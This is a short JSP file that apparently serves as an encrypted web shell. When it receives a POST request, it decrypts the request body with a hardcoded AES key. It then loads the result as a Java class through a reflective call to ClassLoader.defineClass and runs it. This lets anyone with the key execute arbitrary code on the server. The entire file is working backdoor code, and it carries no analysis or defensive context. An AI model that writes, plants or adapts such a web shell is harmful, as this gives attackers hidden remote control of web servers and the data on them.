<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*,java.lang.reflect.*"%>
<%
if (request.getMethod().equals("POST")) {
    String k = "0b7ab8c5b3d7e1f4";
    session.setAttribute("u", k);
    Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
    c.init(Cipher.DECRYPT_MODE, new SecretKeySpec(k.getBytes(), "AES"));
    java.io.InputStream is = request.getInputStream();
    java.io.ByteArrayOutputStream bos = new java.io.ByteArrayOutputStream();
    byte[] tmp = new byte[512]; int n;
    while ((n = is.read(tmp)) != -1) bos.write(tmp, 0, n);
    byte[] data = c.doFinal(Base64.getDecoder().decode(bos.toByteArray()));
    Method dm = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
    dm.setAccessible(true);
    Class<?> cls = (Class<?>) dm.invoke(Thread.currentThread().getContextClassLoader(), data, 0, data.length);
    cls.newInstance().equals(pageContext);
}
%>
